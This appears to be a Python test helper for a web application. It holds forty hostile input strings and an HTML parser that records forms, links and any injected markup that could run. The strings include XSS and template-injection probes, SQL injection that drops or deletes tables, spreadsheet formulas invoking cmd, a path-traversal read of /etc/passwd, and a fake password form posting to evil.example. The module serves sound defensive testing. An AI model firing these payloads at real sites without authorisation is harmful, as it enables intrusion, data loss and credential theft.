"""Forty strings that mean harm, and the forms of a site with their text fields."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

STRINGS = (
    "<script>window.harmed=1</script>", "</title><script>window.harmed=2</script>",
    "\"><img src=x onerror=window.harmed=3>", "'><svg onload=window.harmed=4>",
    "javascript:window.harmed=5", "<a href=javascript:window.harmed=6>x</a>",
    "</textarea><script>window.harmed=7</script>", "</option></select><script>harm()</script>",
    "<iframe srcdoc='<script>parent.harmed=8</script>'>", "<style>body{display:none}</style>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=https://evil.example><input name=password>", "<details open ontoggle=harm()>",
    "&lt;script&gt;window.harmed=9&lt;/script&gt;", "&#60;script&#62;window.harmed=10",
    "\" autofocus onfocus=window.harmed=11 x=\"", "' onmouseover=window.harmed=12 x='",
    "{{ 1337*1337 }}", "{{ config.__class__ }}", "{% for x in [1] %}harm{% endfor %}",
    "${1337*1337}", "#{1337*1337}", "<%= 1337*1337 %>", "%(name)s %s %d %n",
    "{name} {0} {}", "'; DROP TABLE holders; --",
    "' OR '1'='1", "1); DELETE FROM holders; --", "=HYPERLINK(\"//evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "\u202etxt.exe\u202c", "a\u200bb\u200c\u200d\ufeffc", "\u0338\u0338\u0338Z\u0351\u0343\u0338",
    "../../../../etc/passwd", "name\r\nSet-Cookie: harmed=1",
    "\U0001f600\U0001f468\u200d\U0001f469",
    "W" * 3000,
)  # fmt: skip
assert len(STRINGS) == 40
_TYPED = {"text", "search", "email", "url", "tel", ""}
_VOID = {"csrf", "next"}


@dataclass
class Form:
    """A form as a page shows it. ``texts``: names of fields in which people type freely."""

    action: str
    method: str
    values: dict[str, list[str]] = field(default_factory=dict)
    texts: dict[str, int] = field(default_factory=dict)


class Page(HTMLParser):
    """What a page holds: links, forms, and whatever could run."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.forms: list[Form] = []
        self.complaints: set[str] = set()
        self.running: list[str] = []
        self._form: Form | None = None
        self._area = self._select = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._suspect(tag, given)
        if tag == "a" and "href" in given:
            self.links.append(given["href"])
        elif tag == "p" and given.get("id", "").endswith("-bad"):
            self.complaints.add(given["id"].removesuffix("-bad"))
        elif tag == "form":
            self._form = Form(given.get("action", ""), given.get("method", "get"))
            self.forms.append(self._form)
        elif self._form is not None:
            self._field(self._form, tag, given)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "textarea":
            self._area = ""
        elif tag == "select":
            self._select = ""

    def handle_data(self, data: str) -> None:
        if self._area and self._form is not None:
            self._form.values[self._area][0] += data

    def _field(self, form: Form, tag: str, given: dict[str, str]) -> None:
        name, kind = given.get("name", ""), given.get("type", "")
        if tag == "textarea":
            self._area = name
            form.values[name] = [""]
            form.texts[name] = int(given.get("maxlength", "4000"))
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select:
            chosen = form.values.get(self._select)
            if chosen is None or "selected" in given:
                form.values[self._select] = [given.get("value", "")]
        elif tag == "input" and name:
            if kind in ("checkbox", "radio"):
                if "checked" in given:
                    form.values.setdefault(name, []).append(given.get("value", "on"))
                return
            form.values[name] = [given.get("value", "")]
            if kind in _TYPED and name not in _VOID:
                form.texts[name] = int(given.get("maxlength", "4000"))

    def _suspect(self, tag: str, given: dict[str, str]) -> None:
        """Keep whatever no template of ours writes."""
        bad = tag in ("iframe", "object", "embed", "base", "style")
        bad |= tag == "script" and not given.get("src", "").startswith("/static/")
        bad |= tag == "img" and given.get("src") == "x"
        bad |= tag == "meta" and "http-equiv" in given
        bad |= any(name.startswith("on") or name in ("srcdoc", "style") for name in given)
        for name in ("href", "src", "action", "formaction"):
            at = given.get(name, "").strip().lower()
            bad |= at.startswith(("javascript:", "data:", "//", "http"))
        if bad:
            self.running.append(f"<{tag} {given}>"[:300])


def read(html: str) -> Page:
    """Return what a page holds."""
    page = Page()
    page.feed(html)
    page.close()
    return page
